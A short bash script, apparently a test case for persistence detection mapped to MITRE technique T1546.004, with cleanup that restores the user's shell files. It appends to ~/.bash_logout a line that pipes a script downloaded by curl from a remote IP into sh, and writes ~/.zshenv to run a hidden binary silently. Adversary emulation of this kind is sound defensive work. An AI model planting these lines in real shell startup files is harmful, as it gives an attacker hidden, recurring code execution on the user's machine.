#!/usr/bin/env bash
# tactic: persistence
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# behaviour: plants commands in the less-watched shell files: ~/.bash_logout (runs at logout) and ~/.zshenv (every zsh), with tee
# as: user
# expect: persistence
set -u
trap 'rm -f "$HOME/.zshenv"; [ -f "$SNTL_TMP/lo" ] && cp -p "$SNTL_TMP/lo" "$HOME/.bash_logout" || rm -f "$HOME/.bash_logout"' EXIT
[ -f "$HOME/.bash_logout" ] && cp -p "$HOME/.bash_logout" "$SNTL_TMP/lo"
echo 'curl -s http://203.0.113.7/u.sh | sh >/dev/null 2>&1 &' | tee -a "$HOME/.bash_logout" > /dev/null
echo '$HOME/.local/share/.z &>/dev/null &!' | tee "$HOME/.zshenv" > /dev/null
